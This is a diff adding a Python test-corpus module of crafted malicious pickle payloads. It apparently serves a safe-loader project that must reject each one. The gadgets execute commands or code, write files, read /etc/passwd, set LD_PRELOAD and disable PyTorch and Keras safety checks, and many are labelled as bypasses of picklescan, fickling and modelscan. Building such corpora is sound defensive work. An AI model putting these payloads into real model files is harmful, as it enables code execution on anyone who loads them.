@@ -1,0 +1,375 @@
+"""Functions that run code, or do other harm, when a pickle calls them: one small pickle for each.
+
+The standard library, PyTorch, NumPy and packages that lie beside them hold hundreds; scanners that keep lists of bad names
+have been passed by most of these.
+"""
+
+from __future__ import annotations
+
+import marshal
+import os
+import pickle
+from collections.abc import Callable
+
+from attacks.assembling import (
+    BUILD,
+    EMPTY_LIST,
+    Octets,
+    call,
+    named,
+    new,
+    pickled,
+    plain,
+    stacked,
+    text,
+)
+from attacks.attack import DANGEROUS, NEEDS_CODE, Attack, Corpus, Place
+from perdure.errors import UnsafeError
+
+Opcodes = Callable[[Place], bytes]
+PICKLESCAN, FICKLING, MODELSCAN = "picklescan", "fickling", "modelscan"
+
+# class, name, modelled on, is it live in the Python of the tests, opcodes
+_Row = tuple[str, str, str, bool, Opcodes]
+
+
+def _module(name: str) -> bytes:
+    return call("importlib:import_module", name)
+
+
+def _nested(place: Place) -> Octets:
+    return Octets(pickled(call("os:system", place.command)))
+
+
+SHELLS: list[_Row] = [
+    ("shell", "os.system", MODELSCAN, True, lambda p: call("os:system", p.command)),
+    ("shell", "posix.system", FICKLING, True, lambda p: call("posix:system", p.command)),
+    ("shell", "nt.system", PICKLESCAN, False, lambda p: call("nt:system", p.command)),
+    ("shell", "os.popen", PICKLESCAN, True, lambda p: call("os:popen", p.command)),
+    ("shell", "subprocess.getoutput", PICKLESCAN, True, lambda p: call("subprocess:getoutput", p.command)),
+    ("process", "subprocess.run", MODELSCAN, True, lambda p: call("subprocess:run", ["touch", str(p.marker)])),
+    ("process", "subprocess.Popen", MODELSCAN, True, lambda p: call("subprocess:Popen", ["touch", str(p.marker)])),
+    ("process", "subprocess.check_output", MODELSCAN, True,
+     lambda p: call("subprocess:check_output", ["touch", str(p.marker)])),
+    ("process", "os.spawnv", PICKLESCAN, True,
+     lambda p: call("os:spawnv", 0, "/usr/bin/touch", ["touch", str(p.marker)])),
+    ("process", "os.posix_spawn", PICKLESCAN, True,
+     lambda p: call("os:posix_spawn", "/usr/bin/touch", ["touch", str(p.marker)], {})),
+    ("process", "os.execv", PICKLESCAN, True, lambda p: call("os:execv", "/usr/bin/touch", ["touch", str(p.marker)])),
+    ("process", "_posixsubprocess.fork_exec", PICKLESCAN, False,
+     lambda p: call("_posixsubprocess:fork_exec", ["touch", str(p.marker)])),
+    ("process", "multiprocessing.util.spawnv_passfds", PICKLESCAN, True,
+     lambda p: call("multiprocessing.util:spawnv_passfds", Octets(b"/usr/bin/touch"), ["touch", str(p.marker)], ())),
+    ("terminal", "pty.spawn", "CVE-2025-67748, GHSA-r7v6-mfhq-g3m2 (fickling)", False,
+     lambda p: call("pty:spawn", ["touch", str(p.marker)])),
+    ("event loop", "asyncio.unix_events", "CVE-2025-10157 (picklescan)", False,
+     lambda p: call("asyncio.unix_events:_UnixSubprocessTransport._start", None, p.command, True, None, None, None, 0)),
+    ("event loop", "asyncio.run", PICKLESCAN, False,
+     lambda p: call("asyncio:run", call("asyncio:create_subprocess_shell", p.command))),
+    ("web browser", "webbrowser.GenericBrowser.open", PICKLESCAN, True,
+     lambda p: call("webbrowser:GenericBrowser.open",
+                    call("webbrowser:GenericBrowser", ["touch", "%s"]), str(p.marker))),
+    ("private module", "_osx_support._read_output", f"{FICKLING}, unlisted private modules", True,
+     lambda p: call("_osx_support:_read_output", p.command)),
+    ("private module", "_aix_support._read_cmd_output", f"{FICKLING}, unlisted private modules", False,
+     lambda p: call("_aix_support:_read_cmd_output", p.command)),
+    ("private module", "uuid._get_command_stdout", f"{FICKLING}, unlisted private modules", False,
+     lambda p: call("uuid:_get_command_stdout", "touch", str(p.marker))),
+    ("private module", "_xxsubinterpreters.run_string", "GHSA-6ggj-6f2q-f7mx (fickling)", True,
+     lambda p: call("_xxsubinterpreters:run_string", call("_xxsubinterpreters:create"), p.source)),
+    ("alias of Python 2", "commands.getoutput", PICKLESCAN, False,
+     lambda p: named("commands", "getoutput") + plain((p.command,)) + b"R"),
+    ("alias of Python 2", "__builtin__.eval", PICKLESCAN, False,
+     lambda p: named("__builtin__", "eval") + plain((p.source,)) + b"R"),
+    ("platform", "platform._syscmd_ver", PICKLESCAN, True,
+     lambda p: call("platform:_syscmd_ver", "", "", "", ("linux",)) + b"0" + call("os:popen", p.command)),
+    ("foreign function", "ctypes.CDLL system", "CVE-2026-22608 (fickling)", True,
+     lambda p: call(call("builtins:getattr", call("ctypes:CDLL", None), "system"), Octets(p.command.encode()))),
+    ("foreign function", "ctypes.PyDLL", FICKLING, False,
+     lambda p: call("ctypes:PyDLL", str(p.folder / "payload.so"))),
+]  # fmt: skip
+
+CODE: list[_Row] = [
+    ("evaluation", "builtins.eval", MODELSCAN, True, lambda p: call("builtins:eval", p.source)),
+    ("evaluation", "builtins.exec", MODELSCAN, True, lambda p: call("builtins:exec", p.source)),
+    ("evaluation", "exec of compile", MODELSCAN, True,
+     lambda p: call("builtins:exec", call("builtins:compile", p.source, "model", "exec"))),
+    ("evaluation", "exec then pop", f"{FICKLING}, a result that is thrown away", True,
+     lambda p: call("builtins:exec", p.source) + b"0" + plain({"epoch": 1})),
+    ("attribute walk", "getattr of __import__", MODELSCAN, True,
+     lambda p: call(call("builtins:getattr", call("builtins:__import__", "os"), "system"), p.command)),
+    ("attribute walk", "getattr of a benign class", PICKLESCAN, False,
+     lambda p: call(call("builtins:getattr",
+                         call("builtins:getattr", stacked("collections", "OrderedDict"), "__reduce_ex__"), "__class__"))
+     + b"0" + call("os:system", p.command)),
+    ("attribute walk", "operator.attrgetter", "picklescan, operator functions", True,
+     lambda p: call(call(call("operator:attrgetter", "system"), _module("os")), p.command)),
+    ("attribute walk", "_operator.methodcaller", "picklescan, operator functions", True,
+     lambda p: call(call("_operator:methodcaller", "system", p.command), _module("os"))),
+    ("attribute walk", "inspect.getattr_static", PICKLESCAN, True,
+     lambda p: call(call("inspect:getattr_static", _module("os"), "system"), p.command)),
+    ("dotted name", "torch:os.system", "picklescan, submodules and dotted names", True,
+     lambda p: call("torch:os.system", p.command)),
+    ("dotted name", "torch.serialization:os.system", "picklescan, submodules and dotted names", True,
+     lambda p: call("torch.serialization:os.system", p.command)),
+    ("dotted name", "collections:_sys.modules.__class__", "picklescan, dotted names", True,
+     lambda p: call("collections:_sys.modules.get", "os") + b"0" + call("shutil:os.system", p.command)),
+    ("dotted name", "torch._utils:torch.os.system", "dotted name in an allowed module", True,
+     lambda p: call("torch._utils:torch.os.system", p.command)),
+    ("dotted name", "numpy._core.multiarray:os.system", "submodule of an allowed module", True,
+     lambda p: call("numpy.lib._npyio_impl:os.system", p.command)),
+    ("import", "importlib.import_module", FICKLING, True,
+     lambda p: call("sys:path.insert", 0, str(p.script("payload_of_import.py").parent)) + b"0"
+     + call("importlib:import_module", "payload_of_import")),
+    ("import", "SourceFileLoader", PICKLESCAN, True,
+     lambda p: call("importlib.machinery:SourceFileLoader.load_module",
+                    call("importlib.machinery:SourceFileLoader", "payload", str(p.script())))),
+    ("import", "runpy.run_path", "CVE-2026-22606 (fickling)", True,
+     lambda p: call("runpy:run_path", str(p.script()))),
+    ("import", "runpy._run_code", "CVE-2026-22606 (fickling)", True,
+     lambda p: call("runpy:_run_code", call("builtins:compile", p.source, "m", "exec"), {})),
+    ("import", "pkgutil.resolve_name", "picklescan, a name resolved from text", True,
+     lambda p: call(call("pkgutil:resolve_name", "os:system"), p.command)),
+    ("import", "pydoc.locate", "CVE-2026-22608 (fickling)", True,
+     lambda p: call(call("pydoc:locate", "os.system"), p.command)),
+    ("import", "logging.config._resolve", PICKLESCAN, True,
+     lambda p: call(call("logging.config:_resolve", "os.system"), p.command)),
+    ("import", "unittest.mock._importer", PICKLESCAN, False,
+     lambda p: call("operator:methodcaller", "system", p.command) + plain((call("unittest.mock:_importer", "os"),)) + b"R"),
+    ("import", "sys.modules", PICKLESCAN, True,
+     lambda p: call("operator:methodcaller", "system", p.command) + plain((call("sys:modules.get", "os"),)) + b"R"),
+    ("import", "zipimport.zipimporter", FICKLING, False,
+     lambda p: call("zipimport:zipimporter", str(p.folder / "payload.zip"))),
+    ("code object", "marshal.loads", "CVE-2025-67747, GHSA-565g-hwwr-4pp3 (fickling)", True,
+     lambda p: call(call("types:FunctionType",
+                         call("marshal:loads", Octets(marshal.dumps(compile(p.source, "m", "exec")))),
+                         {"__builtins__": call("builtins:__import__", "builtins")}))),
+    ("code object", "types.FunctionType", "CVE-2025-67747 (fickling)", True,
+     lambda p: call(call("types:FunctionType", call("builtins:compile", p.source, "m", "exec"),
+                         {"__builtins__": call("builtins:__import__", "builtins")}))),
+    ("profiler", "timeit.timeit", PICKLESCAN, True,
+     lambda p: call("timeit:timeit", p.source, "pass", stacked("time", "time"), 1)),
+    ("profiler", "cProfile.run", "CVE-2026-22607 (fickling)", True, lambda p: call("cProfile:run", p.source)),
+    ("profiler", "cProfile.runctx", "CVE-2026-22607 (fickling)", True, lambda p: call("cProfile:runctx", p.source, {}, {})),
+    ("profiler", "profile.Profile.run", PICKLESCAN, True,
+     lambda p: call("profile:Profile.run", call("profile:Profile"), p.source)),
+    ("profiler", "trace.Trace.run", PICKLESCAN, True,
+     lambda p: call("trace:Trace.runctx", call("trace:Trace", 0, 0), p.source, {}, {})),
+    ("debugger", "bdb.Bdb.run", PICKLESCAN, False, lambda p: call("bdb:Bdb.run", call("bdb:Bdb"), p.source)),
+    ("debugger", "pdb.run", PICKLESCAN, False, lambda p: call("pdb:run", p.source)),
+    ("debugger", "doctest.debug_script", PICKLESCAN, False, lambda p: call("doctest:debug_script", p.source)),
+    ("console", "code.InteractiveInterpreter.runsource", PICKLESCAN, True,
+     lambda p: call("code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), p.source)),
+    ("console", "code.InteractiveInterpreter.runcode", PICKLESCAN, True,
+     lambda p: call("code:InteractiveInterpreter.runcode", call("code:InteractiveInterpreter"),
+                    call("builtins:compile", p.source, "m", "exec"))),
+    ("documentation tool", "pydoc.pipepager", "CVE-2026-22608 (fickling)", True,
+     lambda p: call("pydoc:pipepager", "", p.command)),
+    ("development tool", "idlelib.calltip.get_entity", PICKLESCAN, False,
+     lambda p: call("idlelib.calltip:get_entity", p.source)),
+    ("development tool", "idlelib.autocomplete", PICKLESCAN, False,
+     lambda p: call("idlelib.autocomplete:AutoComplete.get_entity", None, p.source)),
+    ("development tool", "idlelib.pyshell.ModifiedInterpreter.runcommand", PICKLESCAN, False,
+     lambda p: call("idlelib.pyshell:ModifiedInterpreter.runcommand", None, p.source)),
+    ("development tool", "lib2to3.pgen2.grammar.Grammar.loads", PICKLESCAN, False,
+     lambda p: call("lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), _nested(p))),
+    ("development tool", "lib2to3.pgen2.pgen.ParserGenerator.make_label", PICKLESCAN, False,
+     lambda p: call("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, None, f"'{p.source}'")),
+    ("type machinery", "typing.get_type_hints", "evaluated annotations", False,
+     lambda p: call("typing:get_type_hints", call("types:SimpleNamespace"), {}) + b"0"
+     + call("typing:ForwardRef._evaluate", call("typing:ForwardRef", p.source), {}, {}, call("builtins:frozenset"))),
+    ("type machinery", "dataclasses.make_dataclass", "source built from names", False,
+     lambda p: call("dataclasses:make_dataclass", "C", [(f"x:int={p.source}", "int")])),
+    ("type machinery", "collections.namedtuple", "source built from names", False,
+     lambda p: call("collections:namedtuple", "T", f"x={p.source}")),
+    ("symbolic algebra", "sympy.sympify", "CVE-free technique: text evaluated by sympy", True,
+     lambda p: call("sympy.core.sympify:sympify", f"__import__('os').system({p.command!r})")),
+]  # fmt: skip
+
+FILES: list[_Row] = [
+    ("file writing", "builtins.open", PICKLESCAN, True, lambda p: call("builtins:open", str(p.marker), "w")),
+    ("file writing", "io.FileIO", PICKLESCAN, True, lambda p: call("_io:FileIO", str(p.marker), "w")),
+    ("file writing", "os.open", PICKLESCAN, True, lambda p: call("os:open", str(p.marker), os.O_CREAT | os.O_WRONLY)),
+    ("file writing", "pathlib.Path.touch", PICKLESCAN, True,
+     lambda p: call("pathlib:Path.touch", call("pathlib:PosixPath", str(p.marker)))),
+    ("file writing", "pathlib.Path.write_text", PICKLESCAN, True,
+     lambda p: call("pathlib:Path.write_text", call("pathlib:PosixPath", str(p.marker)), "x")),
+    ("file writing", "shutil.copyfile", PICKLESCAN, True,
+     lambda p: call("shutil:copyfile", str(p.write("source", b"x")), str(p.marker))),
+    ("file writing", "os.rename", PICKLESCAN, True,
+     lambda p: call("os:rename", str(p.write("source", b"x")), str(p.marker))),
+    ("file writing", "os.symlink", PICKLESCAN, True, lambda p: call("os:symlink", "/dev/null", str(p.marker))),
+    ("file writing", "distutils.file_util.write_file", PICKLESCAN, False,
+     lambda p: call("distutils.file_util:write_file", str(p.marker), ["x"])),
+    ("file writing", "numpy.save", "NumPy's writers", True, lambda p: call("numpy:save", str(p.marker) + ".npy", 1)
+     + b"0" + call("os:rename", str(p.marker) + ".npy", str(p.marker))),
+    ("file writing", "numpy.memmap", "NumPy's writers", True,
+     lambda p: call("numpy:memmap", str(p.marker), "uint8", "w+", 0, (1,))),
+    ("file writing", "logging.FileHandler", PICKLESCAN, True, lambda p: call("logging:FileHandler", str(p.marker))),
+    ("file writing", "sqlite3.connect", PICKLESCAN, True, lambda p: call("sqlite3:connect", str(p.marker))),
+    ("file writing", "zipfile.ZipFile", PICKLESCAN, True, lambda p: call("zipfile:ZipFile", str(p.marker), "w")),
+    ("file reading", "linecache.getlines", "picklescan: files of the host are read", False,
+     lambda p: call("linecache:getlines", "/etc/passwd")),
+    ("file reading", "numpy.fromfile", "files of the host are read", False,
+     lambda p: call("numpy:fromfile", "/etc/passwd", "uint8")),
+    ("network", "ssl.get_server_certificate", "CVE-2025-46417 (picklescan)", False,
+     lambda p: call("ssl:get_server_certificate", ("127.0.0.1", 9))),
+    ("network", "urllib.request.urlopen", PICKLESCAN, False, lambda p: call("urllib.request:urlopen", "http://127.0.0.1:9/")),
+    ("network", "socket.create_connection", "fickling#16", False,
+     lambda p: call("socket:create_connection", ("127.0.0.1", 9))),
+    ("network", "http.client", PICKLESCAN, False,
+     lambda p: call("http.client:HTTPConnection.connect", call("http.client:HTTPConnection", "127.0.0.1", 9))),
+    ("packaging", "pip.main", "CVE-2025-1716 (picklescan)", False,
+     lambda p: call("pip:main", ["--isolated", "help"])),
+    ("packaging", "pip._internal", "CVE-2025-1716 (picklescan)", False,
+     lambda p: call("pip._internal.cli.main:main", ["--isolated", "help"])),
+    ("packaging", "ensurepip.bootstrap", PICKLESCAN, False, lambda p: call("ensurepip:_run_pip", ["--version"])),
+    ("packaging", "venv.create", PICKLESCAN, True, lambda p: call("venv:create", str(p.marker))),
+    ("state of the process", "os.putenv", PICKLESCAN, False, lambda p: call("os:putenv", "LD_PRELOAD", "/tmp/x.so")),
+    ("state of the process", "sys.setrecursionlimit", FICKLING, False, lambda p: call("sys:setrecursionlimit", 10**9)),
+    ("state of the process", "signal.raise_signal", PICKLESCAN, False, lambda p: call("signal:raise_signal", 0)),
+    ("safety switched off", "torch.serialization.add_safe_globals", "a setting in the file that disables safety", False,
+     lambda p: call("torch.serialization:add_safe_globals", [stacked("os", "system")])),
+    ("safety switched off", "torch.serialization._set_default_load", "a setting in the file that disables safety", False,
+     lambda p: call("os:putenv", "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1")),
+    ("safety switched off", "keras enable_unsafe_deserialization", "CVE-2025-9906 (Keras)", False,
+     lambda p: call("keras.src.saving.serialization_lib:enable_unsafe_deserialization")),
+]  # fmt: skip
+
+DELAYED: list[_Row] = [
+    ("partial", "functools.partial", "fickling, calls wrapped in partial", True,
+     lambda p: call(call("functools:partial", stacked("os", "system"), p.command))),
+    ("partial", "partial with a state", "picklescan, a function in the state of partial", True,
+     lambda p: call(call("functools:partial", stacked("builtins", "len"))
+                    + plain((stacked("os", "system"), (p.command,), {}, {})) + BUILD)),
+    ("partial", "functools.reduce", FICKLING, True,
+     lambda p: call("functools:reduce", stacked("builtins", "getattr"), [_module("os"), "system"])
+     + plain((p.command,)) + b"R"),
+    ("lazy iterator", "list of map", FICKLING, True,
+     lambda p: call("builtins:list", call("builtins:map", stacked("os", "system"), [p.command]))),
+    ("lazy iterator", "deque of map", "an allowed class makes the call", True,
+     lambda p: call("collections:deque", call("builtins:map", stacked("os", "system"), [p.command]))),
+    ("lazy iterator", "Counter of map", "an allowed class makes the call", True,
+     lambda p: call("collections:Counter", call("builtins:map", stacked("os", "system"), [p.command]))),
+    ("lazy iterator", "set of filter", "an allowed class makes the call", True,
+     lambda p: call("builtins:set", call("builtins:filter", stacked("os", "system"), [p.command]))),
+    ("lazy iterator", "map by NEWOBJ", "an allowed opcode makes the iterator", True,
+     lambda p: call("builtins:list", new("builtins:map", stacked("os", "system"), [p.command]))),
+    ("lazy iterator", "itertools.starmap", FICKLING, True,
+     lambda p: call("builtins:list", call("itertools:starmap", stacked("os", "system"), [(p.command,)]))),
+    ("lazy iterator", "torch.Size of map", "an allowed class of PyTorch makes the call", True,
+     lambda p: call("torch:Size", call("builtins:map", stacked("os", "system"), [p.command]))),
+    ("lazy iterator", "OrderedDict of map", "an allowed class makes the call", True,
+     lambda p: call("collections:OrderedDict", call("builtins:map", stacked("os", "system"), [p.command]))),
+    ("factory", "defaultdict missing", "a factory that is called later", True,
+     lambda p: call("operator:getitem", call("collections:defaultdict",
+                    call("functools:partial", stacked("os", "system"), p.command)), "x")),
+    ("weak reference", "weakref.finalize", "called when the process ends", False,
+     lambda p: call("weakref:finalize", call("types:SimpleNamespace"), stacked("os", "system"), p.command)),
+    ("weak reference", "atexit.register", "called when the process ends", False,
+     lambda p: call("atexit:register", stacked("os", "system"), p.command)),
+    ("thread", "threading.Timer", PICKLESCAN, True,
+     lambda p: call("threading:Timer.run", call("threading:Timer", 0, stacked("os", "system"), [p.command]))),
+    ("thread", "concurrent.futures", PICKLESCAN, True,
+     lambda p: call("concurrent.futures.thread:_WorkItem.run",
+                    call("concurrent.futures.thread:_WorkItem", call("concurrent.futures:Future"),
+                         stacked("os", "system"), (p.command,), {}))),
+    ("nested pickle", "pickle.loads", PICKLESCAN, True, lambda p: call("pickle:loads", _nested(p))),
+    ("nested pickle", "_pickle.loads", PICKLESCAN, True, lambda p: call("_pickle:loads", _nested(p))),
+    ("nested pickle", "cloudpickle.loads", FICKLING, True, lambda p: call("cloudpickle:loads", _nested(p))),
+    ("nested pickle", "dill.loads", FICKLING, False, lambda p: call("dill:loads", _nested(p))),
+    ("nested pickle", "joblib.load", FICKLING, True,
+     lambda p: call("joblib:load", str(p.write("inner", bytes(_nested(p)))))),
+    ("nested pickle", "numpy.load", "CVE-2019-6446 (NumPy)", True,
+     lambda p: call("numpy:load", str(p.write("inner", bytes(_nested(p)))), None, True)),
+    ("nested pickle", "shelve.open", PICKLESCAN, False, lambda p: call("shelve:open", str(p.folder / "inner"))),
+    ("nested pickle", "torch.storage._load_from_bytes", "picklescan, nested torch files", True,
+     lambda p: call("torch.storage:_load_from_bytes", Octets(legacy(pickled(call("os:system", p.command)))))),
+    ("nested pickle", "multiprocessing.connection", PICKLESCAN, True,
+     lambda p: call("multiprocessing.reduction:ForkingPickler.loads", _nested(p))),
+    ("nested pickle", "pickle of a pickle of a pickle", PICKLESCAN, True,
+     lambda p: call("pickle:loads", Octets(pickled(call("pickle:loads", _nested(p)))))),
+]  # fmt: skip
+
+TORCH: list[_Row] = [
+    ("torch.hub", "torch.hub._load_local", "torch.hub runs a file of a folder", True,
+     lambda p: call("torch.hub:_load_local", str(p.write("hubconf.py", f"{p.source}\nentry = int\n".encode()).parent),
+                    "entry")),
+    ("torch.hub", "torch.hub._import_module", "torch.hub runs a file of a folder", True,
+     lambda p: call("torch.hub:_import_module", "payload", str(p.script()))),
+    ("torch.hub", "torch.hub.download_url_to_file", "files are fetched", False,
+     lambda p: call("torch.hub:download_url_to_file", "http://127.0.0.1:9/x", str(p.folder / "x"))),
+    ("helper of PyTorch", "torch.jit.unsupported_tensor_ops.execWrapper", PICKLESCAN, True,
+     lambda p: call("torch.jit.unsupported_tensor_ops:execWrapper", p.source, {}, {})),
+    ("helper of PyTorch", "torch.utils.collect_env.run", PICKLESCAN, True,
+     lambda p: call("torch.utils.collect_env:run", p.command)),
+    ("helper of PyTorch", "torch.utils.bottleneck run_cprofile", PICKLESCAN, False,
+     lambda p: call("torch.utils.bottleneck.__main__:run_cprofile", p.source, {})),
+    ("helper of PyTorch", "torch.utils._config_module", PICKLESCAN, False,
+     lambda p: call("torch.utils._config_module:ConfigModule.load_config", None, _nested(p))),
+    ("helper of PyTorch", "torch.utils.data decoder", PICKLESCAN, True,
+     lambda p: call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", _nested(p))),
+    ("helper of PyTorch", "torch._dynamo.guards.GuardBuilder.get", PICKLESCAN, False,
+     lambda p: call("torch._dynamo.guards:GuardBuilder.get", None, p.source)),
+    ("helper of PyTorch", "ShapeEnv.evaluate_guards_expression", PICKLESCAN, False,
+     lambda p: call("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", None, p.source, ())),
+    ("helper of PyTorch", "torch._inductor.codecache", "compiled source is loaded", False,
+     lambda p: call("torch._inductor.codecache:PyCodeCache.load", p.source)),
+    ("helper of PyTorch", "torch.utils.cpp_extension.load_inline", "source is compiled", False,
+     lambda p: call("torch.utils.cpp_extension:load_inline", "x", "int main() {}")),
+    ("helper of PyTorch", "torch.load", "files of the host are unpickled", False,
+     lambda p: call("torch:load", str(p.write("inner", bytes(_nested(p)))))),
+    ("graph module", "torch.fx reduce_graph_module", "source of torch.fx is executed on loading", False,
+     lambda p: call("torch.fx.graph_module:reduce_graph_module", {"_code": "def forward(self): pass"}, p.source)),
+    ("graph module", "torch.fx _forward_from_src", "source of torch.fx is executed on loading", True,
+     lambda p: call("torch.fx.graph_module:_forward_from_src", f"{p.source}\ndef forward(self): pass", {}, {})),
+    ("allowed function, hostile argument", "_rebuild_from_type_v2", "a call within an allowed call", True,
+     lambda p: call("torch._tensor:_rebuild_from_type_v2", stacked("os", "system"), stacked("builtins", "int"),
+                    (p.command,), {})),
+    ("allowed function, hostile argument", "_rebuild_wrapper_subclass", "a class that is called", False,
+     lambda p: call("torch._utils:_rebuild_wrapper_subclass", stacked("subprocess", "Popen"), None, None, None, None,
+                    None, None, False)),
+    ("allowed function, hostile argument", "_reconstruct of NumPy", "a class that is called", False,
+     lambda p: call("numpy._core.multiarray:_reconstruct", stacked("subprocess", "Popen"), (0,), Octets(b"b"))),
+    ("allowed function, hostile argument", "copyreg._reconstructor", "a class that is called", False,
+     lambda p: call("copyreg:_reconstructor", stacked("subprocess", "Popen"), stacked("builtins", "list"),
+                    [p.command])),
+    ("allowed function, hostile argument", "copyreg.__newobj_ex__", "a class that is called", True,
+     lambda p: call("builtins:list", call("copyreg:__newobj_ex__", stacked("builtins", "map"),
+                    (stacked("os", "system"), [p.command]), {}))),
+    ("allowed function, hostile argument", "_codecs.decode", "PyTorch allows _codecs.encode", False,
+     lambda p: call("_codecs:decode", Octets(b"x"), "unicode_escape")),
+    ("numpy.f2py", "getlincoef", PICKLESCAN, True,
+     lambda p: call("numpy.f2py.crackfortran:getlincoef", f"__import__('os').system({p.command!r})", {"x": 1})),
+    ("numpy.f2py", "_eval_length", PICKLESCAN, True,
+     lambda p: call("numpy.f2py.crackfortran:_eval_length", f"__import__('os').system({p.command!r})", {})),
+    ("numpy.testing", "runstring", PICKLESCAN, True,
+     lambda p: call("numpy.testing._private.utils:runstring", p.source, {})),
+    ("numpy.testing", "rundocs", PICKLESCAN, False,
+     lambda p: call("numpy.testing._private.utils:rundocs", str(p.script()))),
+    ("class changed", "torch.nn.Module.forward", "the state of a class is set", False,
+     lambda p: named("torch.nn", "Linear") + plain((None, {"forward": stacked("os", "system")})) + BUILD),
+    ("class changed", "items of a module's dict", "a namespace is changed", False,
+     lambda p: stacked("torch", "__dict__") + text("load") + stacked("os", "system") + b"s" + EMPTY_LIST),
+]  # fmt: skip
+
+
+_REFUSED_BY_WHAT_IS_CALLED = ("_rebuild_wrapper_subclass", "_reconstruct of NumPy")
+"""The function that is called accepts no such class, so that these come to nothing."""
+
+
+def legacy(value: bytes) -> bytes:
+    """Return a torch file of the format before 1.6 that holds a pickled value and no storages."""
+    head = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})
+    return b"".join(pickle.dumps(item, 2) for item in head) + value + pickle.dumps([], 2)
+
+
+def add_to(corpus: Corpus) -> None:
+    for group, name, after, live, opcodes in (*SHELLS, *CODE, *FILES, *DELAYED, *TORCH):
+
+        def write(place: Place, opcodes: Opcodes = opcodes) -> object:
+            return place.write("model.pkl", pickled(opcodes(place)))
+
+        harmless = name in _REFUSED_BY_WHAT_IS_CALLED
+        verdicts, errors = ((NEEDS_CODE, DANGEROUS), ()) if harmless else ((DANGEROUS,), (UnsafeError,))
+        corpus.add(Attack(name, group, after, write, verdicts, errors, "pickle" if live else ""))  # type: ignore[arg-type]
